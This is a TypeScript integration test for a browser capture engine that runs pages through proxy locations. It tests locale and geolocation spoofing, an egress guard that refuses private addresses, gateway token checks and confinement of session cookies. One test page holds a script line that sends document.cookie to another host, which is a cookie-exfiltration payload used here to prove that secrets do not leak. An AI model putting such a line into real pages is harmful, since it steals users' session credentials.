import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Engine, startEngine } from '../../../../src/capture/engine/engine.ts';
import type { OpenOptions } from '../../../../src/capture/page/page.ts';
import { createGateway } from '../../../../src/egress/gateway.ts';
import { createGatewayClient } from '../../../../src/egress/gatewayClient.ts';
import { createGuard } from '../../../../src/egress/guard.ts';
import { Locations } from '../../../../src/egress/locations.ts';
import { type Listener, listen, startListener } from '../../../support/listeners.ts';
import { required } from '../../../support/required.ts';
import { TEST_LOG } from '../../../support/testLog.ts';
import { PROXY_CREDENTIALS, startSocksProxy, type TestProxy } from '../../../support/upstreamProxies.ts';
import { CHROMIUM, device, readyPage, type Sites, startSites } from './sites.ts';

/** The names of this test are public addresses for the guard, and lead to loopback at the proxy. */
const NAMES = ['news.example', 'other.example', 'third.example', 'ip.example'];
/** Chromium tells its position only to secure origins, and to those of this machine. */
const SECURE = 'news.localhost';
const JAPAN = {
  ...{ id: 'jp', name: 'Japan', country: 'JP', locale: 'ja-JP', languages: ['ja-JP', 'ja', 'en'] },
  ...{ time_zone: 'Asia/Tokyo', geolocation: { latitude: 35.7, longitude: 139.7, accuracy: 500 } },
};

let sites: Sites;
let proxy: TestProxy;
let gateway: Listener;
let dead: Listener;
let locations: Locations;
let engine: Engine;
/** The requests that arrived. */
const got: { host: string; path: string; headers: IncomingHttpHeaders; isNested?: boolean }[] = [];
const url = (host: string, path: string) => `http://${host}:${sites.port}${path}`;

beforeAll(async () => {
  sites = await startSites();
  proxy = await startSocksProxy({
    addresses: Object.fromEntries([...NAMES, SECURE].map((name) => [name, '127.0.0.1'])),
  });
  dead = await listen((socket) => socket.destroy());
  const lookup = async (name: string) =>
    NAMES.includes(name) ? [{ address: '93.184.216.34', family: 4 }] : [{ address: '10.1.2.3', family: 4 }];
  const check_url = url('ip.example', '/ip');
  locations = new Locations({
    locations: [
      { ...JAPAN, check_url, proxy: proxy.url },
      { ...JAPAN, id: 'dead', check_url: null, proxy: `http://127.0.0.1:${dead.port}` },
    ],
    credentials: { jp: PROXY_CREDENTIALS, dead: PROXY_CREDENTIALS },
    guard: createGuard({ allow: ['127.0.0.1/32'], lookup }),
    timing: { firstDelayMs: 10, openMs: 60_000 },
  });
  const tunnels = createGateway({
    authenticate: async (token, jobId) => {
      if (token !== 'right' || jobId !== 'job') throw new Error('wrong token');
    },
    connector: (id) => locations.connector(id),
    log: TEST_LOG,
  });
  const server = createServer();
  server.on('connect', (request, socket, head) => tunnels.connect(request, socket as Socket, head));
  gateway = await startListener(server);
  engine = await startEngine({
    ...{ chromiumPath: CHROMIUM, allow: [], log: TEST_LOG },
    settings: { navigationTimeoutMs: 60_000, settleCapMs: 20_000 },
    connectorOf: (location) =>
      createGatewayClient({ url: gateway.url, jobId: 'job', readToken: async () => 'right', location }),
  });
  for (const path of ['/page', '/script', '/third', '/moved', '/private', '/frame', '/report', '/ip'])
    sites.put(path, (request, response) => {
      const { host = '' } = request.headers;
      got.push({ host, path, headers: request.headers, isNested: request.url?.includes('nested') === true });
      if (path === '/ip') return response.end('203.0.113.9\n');
      if (path === '/moved') return response.writeHead(302, { location: url('other.example', '/third') }).end();
      if (path === '/private') return response.writeHead(302, { location: `http://10.0.0.1:${sites.port}/` }).end();
      return response.setHeader('content-type', 'text/html').end(PAGES[path]);
    });
});
afterAll(async () => {
  await engine.close();
  await Promise.all([sites, proxy, gateway, dead].map((each) => each.close()));
});

const SEND = `const send = (from, more = {}) => fetch('/report?' + encodeURIComponent(JSON.stringify({ from, ...more,
  languages: navigator.languages, zone: Intl.DateTimeFormat().resolvedOptions().timeZone,
  locale: Intl.NumberFormat().resolvedOptions().locale, time: new Date(0).getHours() })));`;
/** The same in a worker, whose script is a blob. */
const IN_WORKER = (from: string, more = '') =>
  `${SEND.replace("'/report", "self.origin + '/report")}send('${from}');${more}`;
const START = (source: string) => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source)}])));`;
const PAGES: Readonly<Record<string, string>> = {
  '/page': `<!doctype html><p>News</p><iframe src="/frame"></iframe><script>${SEND}
    send('page', { shared: typeof SharedWorker });
    ${START(IN_WORKER('worker', START(IN_WORKER('nested'))))}
    navigator.geolocation.getCurrentPosition(({ coords }) => send('position', { latitude: coords.latitude }), ({ message }) => send('position', { message }));
  </script>`,
  '/frame': `<script>${SEND}send('frame')</script>`,
  '/third': '<!doctype html><p>Third</p>',
  '/script': '',
};

/** @returns the reports of the page to the site, by the part of the page. */
function reports(): Record<string, Record<string, unknown>> {
  const queries = sites.asked
    .filter((path) => path.startsWith('/report?'))
    .map((path) => path.slice('/report?'.length));
  return Object.fromEntries(
    queries.map((query) => JSON.parse(decodeURIComponent(query))).map((each) => [each.from, each]),
  );
}

async function open(site: string, options: OpenOptions = {}) {
  const page = await engine.open(site, device('desktop'), { location: required(locations.find('jp')), ...options });
  if (page.status === 'ready') await page.close();
  return page;
}

describe('a page at a location', () => {
  test('page, frames and workers agree about languages, time zone and position, and the exit is known', async () => {
    const page = await open(url(SECURE, '/page'));
    readyPage(page);
    expect(page.exitAddress).toBe('203.0.113.9');
    const agreed = { languages: ['ja-JP', 'ja', 'en'], zone: 'Asia/Tokyo', locale: 'ja-JP', time: 9 };
    await expect.poll(() => Object.keys(reports()).sort()).toEqual(['frame', 'nested', 'page', 'position', 'worker']);
    for (const report of Object.values(reports())) expect(report).toMatchObject(agreed);
    expect(reports()['position']).toMatchObject({ latitude: 35.7 });
    expect(reports()['page']).toMatchObject({ shared: 'undefined' });
    const languagesOf = (requests: typeof got) => new Set(requests.map(({ headers }) => headers['accept-language']));
    const ofPage = got.filter(({ path, isNested }) => path !== '/ip' && !isNested);
    expect(languagesOf(ofPage)).toEqual(new Set(['ja-JP,ja;q=0.9,en;q=0.8']));
    // Playwright attaches to a worker of a worker only after it started, so its first request may have no weights (ADR 28).
    const [ofNested] = languagesOf(got.filter(({ isNested }) => isNested));
    expect(ofNested?.replaceAll(/;q=[\d.]+/g, '')).toBe('ja-JP,ja,en');
    expect(new Set(proxy.targets)).toEqual(new Set([`${SECURE}:${sites.port}`, `ip.example:${sites.port}`]));
  });

  test.each([
    ['a literal private address', () => `http://10.0.0.1:${sites.port}/`],
    ['a name with a private address', () => url('intranet.example', '/')],
    ['a redirect to a private address', () => url('news.example', '/private')],
  ])('%s is refused, and the proxy does not hear of it', async (_what, site) => {
    const before = proxy.targets.length;
    const page = await open(site());
    expect(page).toMatchObject({
      status: 'generic_error',
      reason: expect.stringMatching(/^refused by the egress guard/),
    });
    expect(proxy.targets.slice(before).filter((target) => !/^(news|ip)\.example:/.test(target))).toEqual([]);
  });

  test('a dead proxy fails the page as location_unavailable, and other locations work', async () => {
    const location = required(locations.find('dead'));
    for (let pages = 0; locations.isAvailable('dead') && pages < 6; pages += 1) {
      const page = await open(url('news.example', '/third'), { location });
      expect(page).toMatchObject({ status: 'generic_error', reason: expect.stringMatching(/^location_unavailable: /) });
    }
    expect(locations.isAvailable('dead')).toBe(false);
    const connections = dead.connections;
    const page = await open(url('news.example', '/third'), { location });
    expect(page).toMatchObject({ reason: expect.stringMatching(/^location_unavailable: .*does not use it/) });
    expect(dead.connections).toBe(connections);
    readyPage(await open(url('news.example', '/third')));
  });

  test('the gateway refuses a wrong token and an unknown location', async () => {
    const client = (token: string, location: string) =>
      createGatewayClient({ url: gateway.url, jobId: 'job', readToken: async () => token, location });
    const before = proxy.connections;
    await expect(client('wrong', 'jp').connect('news.example', 80)).rejects.toThrow(
      /rejected the capture: wrong token/,
    );
    await expect(client('right', 'xx').connect('news.example', 80)).rejects.toThrow(/There is no location xx/);
    expect(proxy.connections).toBe(before);
  });
});

describe('cookies and headers of a request', () => {
  const access = {
    cookies: [{ name: 'session', value: 'c00kie-secret' }],
    headers: [{ name: 'X-Preview', value: 'h3ader-secret' }],
  };
  const asked = (host: string) => got.filter((each) => each.host === `${host}:${sites.port}`);

  test('go to the site, and neither to a third party nor to the next host of a redirect', async () => {
    got.length = 0;
    const frame = url('third.example', '/third');
    sites.put('/gated', (request, response) => {
      got.push({ host: request.headers.host ?? '', path: '/gated', headers: request.headers });
      const text = `<p>Gated</p><img src="/script"><iframe src="${frame}"></iframe><img src="${url('third.example', '/script')}">
        <script>new Image().src = '${url('other.example', '/script')}?' + document.cookie</script>`;
      response.setHeader('content-type', 'text/html').end(text);
    });
    readyPage(await open(url('news.example', '/gated'), { access }));
    readyPage(await open(url('news.example', '/moved'), { access }));
    const own = asked('news.example');
    expect(own.map(({ path }) => path)).toEqual(['/gated', '/script', '/moved']);
    for (const { headers } of own)
      expect(headers).toMatchObject({ cookie: 'session=c00kie-secret', 'x-preview': 'h3ader-secret' });
    expect(asked('third.example').length).toBeGreaterThanOrEqual(2);
    expect(asked('other.example').length).toBeGreaterThanOrEqual(2);
    const others = got.filter((each) => !own.includes(each));
    expect(JSON.stringify([others, sites.asked])).not.toMatch(/c00kie-secret|h3ader-secret/);
  });

  test('another page of the browser has none of them', async () => {
    got.length = 0;
    readyPage(await open(url('news.example', '/third')));
    expect(JSON.stringify(got)).not.toMatch(/secret/);
  });
});
